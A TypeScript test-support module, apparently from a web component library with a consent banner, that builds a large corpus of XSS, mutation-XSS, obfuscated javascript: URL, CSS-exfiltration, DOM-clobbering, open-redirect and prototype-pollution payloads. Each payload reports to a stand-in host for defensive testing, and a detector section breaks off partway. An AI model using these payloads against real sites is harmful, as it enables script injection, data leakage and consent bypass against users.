// The hostile corpus: strings an attacker would put in every server-fed path and
// attribute. Every payload, if it ran, reports itself: it calls window.__wsHostileRan(id) on the
// top page, or (where the detector is out of reach, e.g. a data: frame) requests
// https://hostile.invalid/ran/<id>; CSS that applied, a form that submitted or content that loaded
// before consent requests https://hostile.invalid/<kind>/<id>. Element tests feed it without a CSP
// (test/elements/hostile-*.test.ts), the e2e pass with the demo's CSP (test/e2e/hostile.spec.ts).
// A new element adds its paths there; a new trick goes here, in its group.

export const HOSTILE_HOST = 'hostile.invalid';
/** Same-server path the test servers answer empty: a request to it is seen like one to the hostile host. */
export const RECORDER_PATH = '/__hostile/';

export type HostileGroup =
  | 'html' // HTML and mutation XSS
  | 'svg-mathml'
  | 'url' // URL schemes, with Unicode whitespace and control characters
  | 'entities' // entities and case tricks (decoded in HTML attributes, literal in JSON)
  | 'css' // <style>, style="", attribute-selector leaks, hiding the banner, forms
  | 'marked' // consent-marked markup: gadgets through the blocker, fetches before consent
  | 'clobbering'
  | 'cross-origin' // http(s) URLs of another origin: wrong only where same origin is required
  | 'hash'
  | 'offcanvas';

export interface HostilePayload {
  /** Unique and short: it is what the detector and the request paths report. */
  id: string;
  group: HostileGroup;
  value: string;
}

/**
 * Script text that reports payload `id`: to the top page's detector, else by a request (a frame of
 * another origin cannot reach top). No spaces and no double quotes, so it fits any attribute.
 */
export const ranCode = (id: string): string =>
  `try{top.__wsHostileRan('${id}')}catch(e){fetch('https://${HOSTILE_HOST}/ran/${id}')}`;
/** The same without any quote character, for payloads that are themselves inside quotes. */
export const ranCodeUnquoted = (id: string): string =>
  `try{top.__wsHostileRan\`${id}\`}catch(e){fetch\`//${HOSTILE_HOST}/ran/${id}\`}`;
/** A URL on the hostile host; `kind` says why a request there is wrong (ran, css, form, held, next). */
export const hostileUrl = (kind: string, id: string): string => `https://${HOSTILE_HOST}/${kind}/${id}`;
/** The same-server recorder path for payload `id`. */
export const recorderUrl = (kind: string, id: string): string => `${RECORDER_PATH}${kind}/${id}`;
/** Requests to this kind are wrong only while the content's category is not accepted. */
export const HELD_KIND = 'held';

/**
 * The payload for one run of a path: its hostile host becomes `<run>.hostile.invalid` and its
 * recorder path `/__hostile/<run>/`. The browser's memory cache reuses a failed stylesheet or image
 * of the same URL without a new request, so a second path in the same page would otherwise see nothing.
 */
export const inRun = (value: string, run: string): string =>
  value.split(HOSTILE_HOST).join(`${run}.${HOSTILE_HOST}`).split(RECORDER_PATH).join(`${RECORDER_PATH}${run}/`);

/** A javascript: URL that reports payload `id` when it runs. */
export const javascriptUrlFor = (id: string): string => `javascript:${ranCode(id)}`;
const javascriptUrl = javascriptUrlFor;

const list = (group: HostileGroup, entries: Array<[string, (id: string) => string]>): HostilePayload[] =>
  entries.map(([name, build]) => {
    const id = `${group}-${name}`;
    return { id, group, value: build(id) };
  });

const html = list('html', [
  ['img-onerror', (id) => `<img src=x onerror="${ranCode(id)}">`],
  ['img-onerror-unquoted', (id) => `<img src=x onerror=${ranCodeUnquoted(id)}>`],
  ['script', (id) => `<script>${ranCode(id)}</script>`],
  ['script-src', (id) => `<script src="${hostileUrl('ran', id)}.js"></script>`],
  ['script-recorder', (id) => `<script src="${recorderUrl('ran', id)}.js"></script>`],
  ['iframe-srcdoc', (id) => `<iframe srcdoc="<script>${ranCode(id)}</script>"></iframe>`],
  ['iframe-javascript', (id) => `<iframe src="${javascriptUrl(id)}"></iframe>`],
  ['iframe-data', (id) => `<iframe src="data:text/html,<script>${ranCode(id)}</script>"></iframe>`],
  ['iframe-hostile', (id) => `<iframe src="${hostileUrl('frame', id)}" title="x"></iframe>`],
  ['details-ontoggle', (id) => `<details open ontoggle="${ranCode(id)}"><summary>Mehr</summary></details>`],
  ['input-autofocus', (id) => `<input autofocus onfocus="${ranCode(id)}">`],
  ['body-onload', (id) => `<body onload="${ranCode(id)}">`],
  ['video-source-onerror', (id) => `<video><source onerror="${ranCode(id)}"></video>`],
  ['audio-onerror', (id) => `<audio src=x onerror="${ranCode(id)}"></audio>`],
  ['marquee-onstart', (id) => `<marquee onstart="${ranCode(id)}">Lauftext</marquee>`],
  ['object-javascript', (id) => `<object data="${javascriptUrl(id)}"></object>`],
  ['object-data', (id) => `<object data="data:text/html,<script>${ranCode(id)}</script>"></object>`],
  ['embed-javascript', (id) => `<embed src="${javascriptUrl(id)}">`],
  ['meta-refresh', (id) => `<meta http-equiv="refresh" content="0;url=${javascriptUrl(id)}">`],
  ['base-href', (id) => `<base href="${hostileUrl('base', id)}/"><img src="relative.png" alt="">`],
  ['a-javascript', (id) => `<a href="${javascriptUrl(id)}">Weiterlesen</a>`],
  ['a-javascript-blank', (id) => `<a href="${javascriptUrl(id)}" target="_blank">Weiterlesen</a>`],
  ['a-ping', (id) => `<a href="#" ping="${hostileUrl('ping', id)}">Weiterlesen</a>`],
  ['button-formaction', (id) => `<form><button formaction="${javascriptUrl(id)}">Senden</button></form>`],
  ['noscript-mxss', (id) => `<noscript><p title="</noscript><img src=x onerror=${ranCodeUnquoted(id)}>"></noscript>`],
  ['svg-style-mxss', (id) => `<svg></p><style><a id="</style><img src=1 onerror=${ranCodeUnquoted(id)}>">`],
  [
    'form-math-mxss',
    (id) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ranCodeUnquoted(id)}>`,
  ],
  ['template', (id) => `<template><img src=x onerror="${ranCode(id)}"></template>`],
  ['xmp-mxss', (id) => `<xmp><p title="</xmp><img src=x onerror=${ranCodeUnquoted(id)}>"></xmp>`],
  ['textarea-mxss', (id) => `<textarea><p title="</textarea><img src=x onerror=${ranCodeUnquoted(id)}>"></textarea>`],
  ['title-mxss', (id) => `<title><a title="</title><img src=x onerror=${ranCodeUnquoted(id)}>"></title>`],
  ['comment-mxss', (id) => `<!--><img src=x onerror=${ranCodeUnquoted(id)}>-->`],
  ['cdata-mxss', (id) => `<![CDATA[><img src=x onerror=${ranCodeUnquoted(id)}>]]>`],
  ['attribute-breakout', (id) => `"><img src=x onerror=${ranCodeUnquoted(id)}>`],
  ['uppercase-handler', (id) => `<IMG SRC=x ONERROR="${ranCode(id)}">`],
  ['slash-separator', (id) => `<img/src=x/onerror=${ranCodeUnquoted(id)}>`],
  ['nested-script', (id) => `<scr<script>ipt>${ranCode(id)}</scr</script>ipt>`],
  [
    'custom-element-handler',
    (id) => `<ws-alert type="info" onclick="${ranCode(id)}" onmouseover="${ranCode(id)}">Hinweis</ws-alert>`,
  ],
  ['isindex', (id) => `<isindex type=image src=1 onerror=${ranCodeUnquoted(id)}>`],
  ['object-hostile', (id) => `<object data="${hostileUrl('object', id)}"></object>`],
]);

const svgMathml = list('svg-mathml', [
  ['svg-onload', (id) => `<svg onload="${ranCode(id)}"></svg>`],
  ['svg-uppercase-onload', (id) => `<SVG ONLOAD="${ranCode(id)}"></SVG>`],
  ['svg-script', (id) => `<svg><script>${ranCode(id)}</script></svg>`],
  ['svg-script-href', (id) => `<svg><script href="data:text/javascript,${ranCode(id)}"></script></svg>`],
  ['svg-a-href', (id) => `<svg><a href="${javascriptUrl(id)}"><text y="20">Mehr</text></a></svg>`],
  [
    'svg-a-xlink',
    (id) =>
      `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="${javascriptUrl(id)}"><text y="20">Mehr</text></a></svg>`,
  ],
  [
    'svg-animate-href',
    (id) => `<svg><a><animate attributeName="href" values="${javascriptUrl(id)}"/><text y="20">Mehr</text></a></svg>`,
  ],
  [
    'svg-set-href',
    (id) => `<svg><a><set attributeName="href" to="${javascriptUrl(id)}"/><text y="20">Mehr</text></a></svg>`,
  ],
  ['svg-animate-onbegin', (id) => `<svg><animate onbegin="${ranCode(id)}" attributeName="x" dur="1s"/></svg>`],
  ['svg-foreignobject', (id) => `<svg><foreignObject><img src=x onerror="${ranCode(id)}"></foreignObject></svg>`],
  ['svg-image-onerror', (id) => `<svg><image href="x" onerror="${ranCode(id)}"/></svg>`],
  [
    'svg-use-data',
    (id) =>
      `<svg><use href="data:image/svg+xml,<svg id='u' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror=${ranCodeUnquoted(id)} /></svg>#u"/></svg>`,
  ],
  ['svg-title-mxss', (id) => `<svg><title><img src=x onerror=${ranCodeUnquoted(id)}></title></svg>`],
  ['svg-desc-cdata', (id) => `<svg><desc><![CDATA[</desc><img src=x onerror=${ranCodeUnquoted(id)}>]]></desc></svg>`],
  ['svg-p-style', (id) => `<svg><p><style><img src=x onerror=${ranCodeUnquoted(id)}></style></p></svg>`],
  ['svg-iframe', (id) => `<svg><foreignObject><iframe src="${javascriptUrl(id)}"></iframe></foreignObject></svg>`],
  ['math-href', (id) => `<math href="${javascriptUrl(id)}"><mi>Mehr</mi></math>`],
  [
    'math-maction',
    (id) => `<math><maction actiontype="statusline" xlink:href="${javascriptUrl(id)}">Mehr</maction></math>`,
  ],
  ['math-mi-xlink', (id) => `<math><mi xlink:href="${javascriptUrl(id)}">Mehr</mi></math>`],
  ['math-mglyph-style', (id) => `<math><mtext><table><mglyph><style><img src=x onerror=${ranCodeUnquoted(id)}>`],
  [
    'math-annotation-xml',
    (id) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${ranCode(id)}"></annotation-xml></math>`,
  ],
  ['math-mtext-script', (id) => `<math><mtext><script>${ranCode(id)}</script></mtext></math>`],
]);

/** Leading characters a trim (or the URL parser) may treat differently: the heart of the URL check. */
const URL_PREFIXES: Array<[string, string]> = [
  ['plain', ''],
  ['space', ' '],
  ['tab', '\t'],
  ['newline', '\n'],
  ['return', '\r'],
  ['nul', '\u0000'],
  ['soh', '\u0001'],
  ['backspace', '\u0008'],
  ['unit-separator', '\u001f'],
  ['nbsp', '\u00a0'],
  ['bom', '\ufeff'],
  ['line-separator', '\u2028'],
  ['paragraph-separator', '\u2029'],
  ['em-space', '\u2003'],
  ['ideographic-space', '\u3000'],
  ['ogham-space', '\u1680'],
  ['narrow-nbsp', '\u202f'],
  ['nbsp-bom-mix', '\u00a0\ufeff\u3000 \t'],
];

const url = list('url', [
  ...URL_PREFIXES.map(([name, prefix]): [string, (id: string) => string] => [
    `javascript-${name}`,
    (id) => `${prefix}${javascriptUrl(id)}`,
  ]),
  ['javascript-trailing-nbsp', (id) => `${javascriptUrl(id)}\u00a0`],
  ['inner-tab', (id) => `java\tscript:${ranCode(id)}`],
  ['inner-newline', (id) => `java\nscript:${ranCode(id)}`],
  ['inner-return', (id) => `jav\rascript:${ranCode(id)}`],
  ['nbsp-inner-tab', (id) => `\u00a0java\tscript:${ranCode(id)}`],
  ['comment-newline', (id) => `javascript://%0a${ranCode(id)}`],
  ['polyglot', (id) => `javascript:/*--></title></style></textarea></script>*/${ranCode(id)}`],
  ['vbscript', (id) => `vbscript:${ranCode(id)}`],
  ['data-html', (id) => `data:text/html,<script>${ranCode(id)}</script>`],
  ['data-html-base64', (id) => `data:text/html;base64,${btoa(`<script>${ranCode(id)}</script>`)}`],
  [
    'data-svg',
    (id) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=${ranCodeUnquoted(id)}></svg>`,
  ],
  ['nbsp-data-html', (id) => `\u00a0data:text/html,<script>${ranCode(id)}</script>`],
  ['percent-encoded-scheme', (id) => `%6Aavascript:${ranCode(id)}`],
]);

const entities = list('entities', [
  ['decimal-j', (id) => `&#106;avascript:${ranCode(id)}`],
  ['hex-j-colon', (id) => `&#x6A;avascript&#x3A;${ranCode(id)}`],
  ['named-colon', (id) => `javascript&colon;${ranCode(id)}`],
  ['decimal-colon', (id) => `javascript&#58;${ranCode(id)}`],
  ['named-tab', (id) => `java&Tab;script:${ranCode(id)}`],
  ['named-newline', (id) => `java&NewLine;script:${ranCode(id)}`],
  ['padded-no-semicolon', (id) => `&#0000106&#0000097vascript:${ranCode(id)}`],
  ['named-nbsp', (id) => `&nbsp;javascript:${ranCode(id)}`],
  ['hex-bom', (id) => `&#xFEFF;javascript:${ranCode(id)}`],
  ['hex-line-separator', (id) => `&#x2028;javascript:${ranCode(id)}`],
  ['upper-case', (id) => `JAVASCRIPT:${ranCode(id)}`],
  ['mixed-case', (id) => `JaVaScRiPt:${ranCode(id)}`],
  ['mixed-case-nbsp', (id) => `\u00a0JaVaScRiPt:${ranCode(id)}`],
  ['fullwidth-colon', (id) => `javascript\uff1a${ranCode(id)}`],
]);

/** CSS that, once applied, requests the hostile host: the request proves it applied. */
const css = list('css', [
  // Each rule proves itself through its own property or pseudo-element: two payloads on one
  // property would override each other and one of them would look harmless.
  ['style-background', (id) => `<style>body{background:url(${hostileUrl('css', id)})}</style>`],
  ['style-import', (id) => `<style>@import url(${hostileUrl('css', id)}.css);</style>`],
  [
    'style-font-face',
    (id) => `<style>@font-face{font-family:h;src:url(${hostileUrl('css', id)})}body{font-family:h}</style>`,
  ],
  ['style-escaped-url', (id) => `<style>body::after{content:\\75 rl(${hostileUrl('css', id)})}</style>`],
  [
    'style-custom-property',
    (id) => `<style>:root{--h:url(${hostileUrl('css', id)})}html::before{content:var(--h)}</style>`,
  ],
  ['style-before-content', (id) => `<style>body::before{content:url(${hostileUrl('css', id)})}</style>`],
  [
    'style-attribute-leak',
    (id) =>
      `<style>input[value]{background-image:url(${hostileUrl('css', id)})}input[value^="a"]{border-image-source:url(${hostileUrl('css', id)}-a)}</style>`,
  ],
  [
    'style-hide-banner',
    (id) =>
      `<style>ws-consent-banner,ws-manage-consent{display:none!important}html::after{content:url(${hostileUrl('css', id)})}</style>`,
  ],
  ['style-recorder', (id) => `<style>html{background-image:url(${recorderUrl('css', id)})}</style>`],
  ['svg-style', (id) => `<svg><style>svg{background:url(${hostileUrl('css', id)})}</style></svg>`],
  ['style-attribute', (id) => `<div style="background-image:url(${hostileUrl('css', id)})">Text</div>`],
  ['style-attribute-entities', (id) => `<div style="background-image:u&#114;l(${hostileUrl('css', id)})">Text</div>`],
  [
    'style-attribute-overlay',
    (id) =>
      `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff url(${hostileUrl('css', id)})">Alles gut</div>`,
  ],
  ['link-stylesheet', (id) => `<link rel="stylesheet" href="${hostileUrl('css', id)}.css">`],
  [
    'form-action',
    (id) => `<form action="${hostileUrl('form', id)}"><input name="q" value="x"><button>Senden</button></form>`,
  ],
  ['form-input-image', (id) => `<form><input type="image" src="${hostileUrl('form', id)}" alt="Senden"></form>`],
  ['button-formaction-hostile', (id) => `<form><button formaction="${hostileUrl('form', id)}">Senden</button></form>`],
]);

/** Consent-marked server markup: gadgets through the blocker (items 2 and 3) and early fetches (item 8). */
const marked = list('marked', [
  ['script-functional', (id) => `<script type="text/plain" data-category="functional">${ranCode(id)}</script>`],
  ['script-marketing', (id) => `<script type="text/plain" data-category="marketing">${ranCode(id)}</script>`],
  [
    'script-statistics-src',
    (id) => `<script type="text/plain" data-category="statistics" data-src="${hostileUrl('ran', id)}.js"></script>`,
  ],
  ['a-data-href', (id) => `<a data-category="functional" data-href="${javascriptUrl(id)}">Mehr</a>`],
  ['a-data-href-nbsp', (id) => `<a data-category="functional" data-href="&nbsp;${javascriptUrl(id)}">Mehr</a>`],
  [
    'svg-a-data-href',
    (id) => `<svg><a data-category="functional" data-href="${javascriptUrl(id)}"><text y="20">Mehr</text></a></svg>`,
  ],
  [
    'area-data-href',
    (id) =>
      `<map name="karte-${id}"><area data-category="functional" data-href="${javascriptUrl(id)}" shape="default" alt="Mehr"></map>`,
  ],
  [
    'iframe-data-src',
    (id) => `<iframe data-category="marketing" data-src="${javascriptUrl(id)}" title="Video"></iframe>`,
  ],
  [
    'iframe-data-src-data',
    (id) =>
      `<iframe data-category="marketing" data-src="data:text/html,<script>${ranCode(id)}</script>" title="Video"></iframe>`,
  ],
  ['object-data-data', (id) => `<object data-category="marketing" data-data="${javascriptUrl(id)}"></object>`],
  ['embed-data-src', (id) => `<embed data-category="marketing" data-src="${javascriptUrl(id)}">`],
  ['img-src-early', (id) => `<img data-category="marketing" src="${hostileUrl(HELD_KIND, id)}" alt="Karte">`],
  ['img-srcset-early', (id) => `<img data-category="marketing" srcset="${hostileUrl(HELD_KIND, id)} 1x" alt="Karte">`],
  ['video-poster-early', (id) => `<video data-category="marketing" poster="${hostileUrl(HELD_KIND, id)}"></video>`],
  [
    'video-source-early',
    (id) => `<video data-category="marketing"><source src="${hostileUrl(HELD_KIND, id)}.mp4"></video>`,
  ],
  [
    'picture-source-early',
    (id) =>
      `<picture data-category="marketing"><source srcset="${hostileUrl(HELD_KIND, id)}"><img alt="Bild"></picture>`,
  ],
  ['object-data-early', (id) => `<object data-category="marketing" data="${hostileUrl(HELD_KIND, id)}"></object>`],
  [
    'iframe-src-early',
    (id) => `<iframe data-category="marketing" src="${hostileUrl(HELD_KIND, id)}" title="Karte"></iframe>`,
  ],
  // What else a marked element fetches or runs (docs/REFERENCE.md "Consent markup").
  [
    'iframe-srcdoc',
    (id) =>
      `<iframe data-category="marketing" srcdoc="<script>${ranCodeUnquoted(id)}</script>" title="Karte"></iframe>`,
  ],
  ['style-import', (id) => `<style data-category="preferences">@import url(${hostileUrl(HELD_KIND, id)}.css);</style>`],
  [
    'style-attribute-url',
    (id) => `<div data-category="marketing" style="background:url(${hostileUrl(HELD_KIND, id)})">Karte</div>`,
  ],
  [
    'svg-xlink-href',
    (id) =>
      `<svg data-category="marketing" width="20" height="20"><image xlink:href="${hostileUrl(HELD_KIND, id)}" width="20" height="20"></image></svg>`,
  ],
  [
    'preload-imagesrcset',
    (id) => `<link data-category="marketing" rel="preload" as="image" imagesrcset="${hostileUrl(HELD_KIND, id)} 1x">`,
  ],
  [
    'container-refresh',
    (id) =>
      `<div data-category="marketing"><meta http-equiv="refresh" content="0;url=${hostileUrl('next', id)}"></div>`,
  ],
]);

/** Names whose element would shadow a global or a document property the runtime relies on. */
export const CLOBBERED_NAMES = [
  'wsShell',
  'wsConsent',
  'dataLayer',
  'gtag',
  'ws-consent-settings',
  'cmplz_has_consent',
  'wp_has_consent',
  'cookie',
  'getElementById',
  'querySelector',
  'documentElement',
  'readyState',
] as const;

const clobbering = list('clobbering', [
  ['a-id-wsShell', () => `<a id="wsShell"></a>`],
  ['form-wsShell-status', () => `<form id="wsShell"><input name="status"></form>`],
  ['a-id-wsConsent', () => `<a id="wsConsent"></a>`],
  ['img-name-dataLayer', () => `<img name="dataLayer" alt="">`],
  ['a-id-dataLayer', () => `<a id="dataLayer"></a>`],
  ['form-id-gtag', () => `<form id="gtag"></form>`],
  ['a-id-gtag-dataLayer', () => `<a id="gtag"></a><a id="dataLayer"></a>`],
  ['div-settings-before', () => `<div id="ws-consent-settings">{"consenttype":"other"}</div>`],
  [
    'plain-script-settings-before',
    () => `<script type="text/plain" id="ws-consent-settings">{"consenttype":"other"}</script>`,
  ],
  ['a-id-cmplz', () => `<a id="cmplz_has_consent"></a><a id="wp_has_consent"></a>`],
  ['img-name-cookie', () => `<img name="cookie" alt="">`],
  ['img-name-getElementById', () => `<img name="getElementById" alt="">`],
  ['img-name-querySelector', () => `<img name="querySelector" alt="">`],
  ['img-name-documentElement', () => `<img name="documentElement" alt="">`],
  ['img-name-readyState', () => `<img name="readyState" alt="">`],
]);

/** Other origins: wrong where only the page's own origin may be fetched (the feed's next page). */
const crossOrigin = list('cross-origin', [
  ['absolute', (id) => hostileUrl('next', id)],
  ['protocol-relative', (id) => `//${HOSTILE_HOST}/next/${id}`],
  ['backslashes', (id) => `\\\\${HOSTILE_HOST}\\next\\${id}`],
  ['slash-backslash', (id) => `/\\${HOSTILE_HOST}/next/${id}`],
  ['scheme-no-slashes', (id) => `https:${HOSTILE_HOST}/next/${id}`],
  ['userinfo', (id) => `http://localhost@${HOSTILE_HOST}/next/${id}`],
  ['nbsp-absolute', (id) => `\u00a0${hostileUrl('next', id)}`],
]);

/** Hashes for the address and for same-page links: ids are matched, never used as markup or selectors. */
const hash = list('hash', [
  ['offcanvas-img', (id) => `#awb-oc__<img src=x onerror=${ranCodeUnquoted(id)}>`],
  ['open-offcanvas-breakout', (id) => `#awb-open-oc__"><svg onload=${ranCodeUnquoted(id)}>`],
  ['close-offcanvas-selector', () => `#awb-close-oc__*,:not(x)`],
  ['offcanvas-encoded-img', (id) => `#awb-oc__${encodeURIComponent(`<img src=x onerror=${ranCodeUnquoted(id)}>`)}`],
  ['offcanvas-bad-encoding', () => `#awb-oc__%E0%A4%A`],
  ['offcanvas-proto', () => `#awb-oc____proto__`],
  ['offcanvas-constructor', () => `#awb-open-oc__constructor`],
  ['offcanvas-long', () => `#awb-oc__${'a'.repeat(20000)}`],
  ['scroll-javascript', (id) => `#_javascript:${ranCode(id)}`],
  ['scroll-img', (id) => `#_<img src=x onerror=${ranCodeUnquoted(id)}>`],
  ['scroll-selector', () => `#_a'],*,[id='`],
  ['scroll-hostile-url', (id) => `#_${hostileUrl('hash', id)}`],
  ['plain-img', (id) => `#<img src=x onerror=${ranCodeUnquoted(id)}>`],
  ['plain-javascript', (id) => `#javascript:${ranCode(id)}`],
  ['bang', (id) => `#!<img src=x onerror=${ranCodeUnquoted(id)}>`],
  ['slash', (id) => `#/<img src=x onerror=${ranCodeUnquoted(id)}>`],
  ['nul', () => `#_%00`],
]);

/** Off-canvas `config` attributes: parsed as JSON, read field by field, never used as markup or CSS. */
const offcanvas = list('offcanvas', [
  ['label-markup', (id) => JSON.stringify({ label: `<img src=x onerror="${ranCode(id)}">`, is_opened: 'yes' })],
  [
    'type-markup',
    (id) =>
      JSON.stringify({ type: `"><img src=x onerror="${ranCode(id)}">`, position: `<svg onload="${ranCode(id)}">` }),
  ],
  [
    'click-selector-markup',
    (id) => JSON.stringify({ on_click: 'yes', on_click_element: `</style><img src=x onerror="${ranCode(id)}">` }),
  ],
  ['click-selector-broad', () => JSON.stringify({ on_click: 'yes', on_click_element: '*' })],
  [
    'scroll-selector-invalid',
    () => JSON.stringify({ on_scroll: 'yes', scroll_to: 'element', scroll_element: ':has(<)' }),
  ],
  [
    'speed-css',
    (id) => JSON.stringify({ enter_animation_speed: `1;background:url(${hostileUrl('css', id)})`, is_opened: 'yes' }),
  ],
  [
    'height-css',
    (id) => JSON.stringify({ height: `100px;background:url(${hostileUrl('css', id)})`, is_opened: 'yes' }),
  ],
  [
    'position-css',
    (id) => JSON.stringify({ position: `center}body{background:url(${hostileUrl('css', id)})`, is_opened: 'yes' }),
  ],
  ['proto-pollution', () => '{"__proto__":{"wsPolluted":"yes","type":"sliding-bar"},"is_opened":"yes"}'],
  ['constructor-pollution', () => '{"constructor":{"prototype":{"wsPolluted":"yes"}},"is_opened":"yes"}'],
  ['arriving-from-javascript', (id) => JSON.stringify({ when_arriving_from: [javascriptUrl(id)], is_opened: 'yes' })],
  [
    'huge-numbers',
    () =>
      JSON.stringify({
        frequency: 'xdays',
        frequency_xdays: '1e309',
        time_on_page: 'yes',
        time_on_page_duration: -Infinity,
      }),
  ],
  ['not-json-markup', (id) => `<img src=x onerror="${ranCode(id)}">`],
  ['truncated-json', () => '{"type":'],
  ['array', () => '[{"is_opened":"yes"}]'],
  ['nested-depth', () => `${'['.repeat(5000)}${']'.repeat(5000)}`],
]);

/** The whole corpus, each payload once. */
export const HOSTILE_CORPUS: readonly HostilePayload[] = [
  ...html,
  ...svgMathml,
  ...url,
  ...entities,
  ...css,
  ...marked,
  ...clobbering,
  ...crossOrigin,
  ...hash,
  ...offcanvas,
];

export const corpusGroups = (...groups: HostileGroup[]): HostilePayload[] =>
  HOSTILE_CORPUS.filter((payload) => groups.includes(payload.group));

/** Payloads for places that take HTML (feed items, manage_consent_html, markup inserted later). */
export const MARKUP_PAYLOADS = corpusGroups('html', 'svg-mathml', 'css', 'marked', 'clobbering');
/** Payloads for places that take a URL (result links and images, read-more, held data- attributes, next). */
export const URL_PAYLOADS = corpusGroups('url', 'entities');
/** Payloads for places that take text: everything that could be mistaken for markup or a URL. */
export const TEXT_PAYLOADS = corpusGroups('html', 'svg-mathml', 'url', 'entities', 'css', 'marked', 'clobbering');
export const CROSS_ORIGIN_URLS = corpusGroups('cross-origin');
export const HASH_PAYLOADS = corpusGroups('hash');
export const OFFCANVAS_CONFIGS = corpusGroups('offcanvas');
export const CLOBBERING_MARKUP = corpusGroups('clobbering');

/**
 * URL payloads as attributes inside server HTML: a link, a marked link and a marked frame. The
 * value goes in as written, so the entity payloads are decoded by the HTML parser.
 */
export const URL_IN_MARKUP: Array<[string, (value: string) => string]> = [
  ['a-href', (value) => `<a href="${value}">Weiterlesen</a>`],
  ['a-data-href', (value) => `<a data-category="functional" data-href="${value}">Weiterlesen</a>`],
  ['iframe-data-src', (value) => `<iframe data-category="marketing" data-src="${value}" title="Video"></iframe>`],
];

export interface Placement<Field extends string = string> {
  /** `<payload id>@<field>`: what the summary lists. */
  id: string;
  field: Field;
  payload: HostilePayload;
}

/** Each payload in each field: the placements of one path. */
export function placementsOf<Field extends string>(
  fields: readonly Field[],
  payloads: readonly HostilePayload[],
): Array<Placement<Field>> {
  return fields.flatMap((field) => payloads.map((payload) => ({ id: `${payload.id}@${field}`, field, payload })));
}

/** A live-search answer: one result per placement, the payload in the placement's field, sane values elsewhere. */
export function searchAnswerWith(
  placements: ReadonlyArray<Placement<'title' | 'post_url' | 'image_url' | 'type' | 'id'>>,
): Array<Record<string, unknown>> {
  return placements.map((placement, index) => ({
    post_url: `#ergebnis-${index}`,
    title: `Ergebnis ${index}`,
    image_url: '',
    id: index + 1,
    type: 'post',
    [placement.field]: placement.payload.value,
  }));
}

/** The fields of a consent_record answer; `note` is one the element does not read. */
export const CONSENT_RECORD_FIELDS = ['consent_id', 'time', 'action', 'consented_categories', 'note'] as const;
export type ConsentRecordField = (typeof CONSENT_RECORD_FIELDS)[number];

/** A consent_record answer of `consentId`: the placement's value in its field (in the category list for that one), sane values elsewhere. */
export function consentRecordAnswerWith(
  consentId: string,
  placement: Placement<ConsentRecordField>,
  value = placement.payload.value,
): Record<string, unknown> {
  const answer: Record<string, unknown> = {
    consent_id: consentId,
    time: '2026-11-26T10:14:03Z',
    action: 'save',
    consented_categories: ['functional'],
  };
  answer[placement.field] = placement.field === 'consented_categories' ? ['functional', value] : value;
  return answer;
}

/** All a manage-consent container may show of a record: the id, and a time it formatted itself (German page). */
export const shownConsentRecord = (consentId: string): RegExp =>
  new RegExp(`^Ihre Einwilligungs-ID:${consentId}(Gespeichert am:\\d{1,2}\\. [A-Za-zä]+ \\d{4}, \\d{2}:\\d{2} Uhr)?$`);

/** A blog-feed item: the payload inside a card, as an archive page would hold it. */
export const feedCard = (markup: string, index: number): string =>
  `<article class="post-card" data-placement="${index}"><h2><a href="/feed/hostile-${index}/">Beitrag ${index}</a></h2>${markup}<p>Text</p></article>`;

/** Banner settings fields that hold text (services_* from the WordPress scan too), and those that hold a read-more URL. */
export const BANNER_TEXT_FIELDS = [
  'header',
  'message_optin',
  'accept_all',
  'deny',
  'save_preferences',
  'view_preferences',
  'readmore_text',
  'manage_consent',
  'category_marketing',
  'services_marketing',
] as const;
export const BANNER_URL_FIELDS = ['readmore_optin', 'readmore_eu', 'readmore_url'] as const;
/** Colours go into custom properties: CSS injection through them must never apply. */
export const BANNER_COLOR_FIELDS = [
  'colorpalette_background_color',
  'colorpalette_text_color',
  'colorpalette_button_accept_background_color',
] as const;
export const CSS_VALUE_PAYLOADS: HostilePayload[] = list('css', [
  ['value-url', (id) => `url(${hostileUrl('css', id)})`],
  ['value-breakout', (id) => `red;background:url(${hostileUrl('css', id)})`],
  ['value-rule-breakout', (id) => `red}body{background:url(${hostileUrl('css', id)})}`],
  ['value-expression', (id) => `expression(${ranCode(id)})`],
  ['value-image-set', (id) => `image-set(url(${hostileUrl('css', id)}) 1x)`],
]);

// ---------------------------------------------------------------------------------------------
// Browser side, for the element tests: the detectors. Nothing below runs on import, so the e2e
// pass (Node) can import the corpus above.

declare global {
  interface Window {
    /** The corpus' execution detector: every payload calls it with its id when it runs. */
    __wsHostileRan?: (id: unknown) => void;
    /** A payload may also just set this flag. */
    __wsHostile?: unknown;
  }
}

/** What the detectors saw since the last look. */
export interface HostileFindings {
  /** Ids of payloads that ran (detector calls, the flag, dialogs). */
  executions: string[];
  /** Requests to the hostile host or the recorder path, and navigations there (cancelled). */
  requests: string[];
  /** Windows a payload tried to open. */
  opened: string[];
}

export interface HostileWatch {
  /** Hands over (and forgets) what was seen; waits `settleMs` first for late loads and timers. */
  take(settleMs?: number): Promise<HostileFindings>;
  /** Navigations of the page that were cancelled (any URL), since the last take. */
  readonly navigations: string[];
}

const isHostileUrl = (value: string): boolean => {
  try {
    const { hostname, pathname } = new URL(value, location.href);
    return hostname === HOSTILE_HOST || hostname.endsWith(`.${HOSTILE_HOST}`) || pathname.startsWith(RECORDER_PATH);
  } catch {
    return false;
  }
};

interface NavigateEventLike extends Event {
  readonly destination: { readonly url: string };
  readonly hashChange: boolean;
}

let watching: HostileWatch | undefined;

/**
 * Installs the detectors once per page: the execution detector and flag, dialogs, window.open, a
 * navigation guard (cross-document navigations are cancelled so the test page stays; javascript:
 * URLs are not navigations and run), and the server-side request recorder (test/support/hostile-requests.mjs).
 */
export async function watchForHostileRuns(): Promise<HostileWatch> {
  if (watching) return watching;
  const { executeServerCommand } = await import('@web/test-runner-commands');
  const executions: string[] = [];
  const opened: string[] = [];
  const navigations: string[] = [];
  window.__wsHostileRan = (id) => executions.push(String(id));
  Object.defineProperty(window, '__wsHostile', {
    configurable: true,
    get: () => undefined,
    set: (value) => executions.push(`flag:${String(value)}`),
  });
  // A dialog would block a headless page: each one counts as a run instead.
  window.alert = (message?: unknown) => void executions.push(`alert:${String(message)}`);
  window.confirm = (message?: string) => (executions.push(`confirm:${String(message)}`), false);
  window.prompt = (message?: string) => (executions.push(`prompt:${String(message)}`), null);
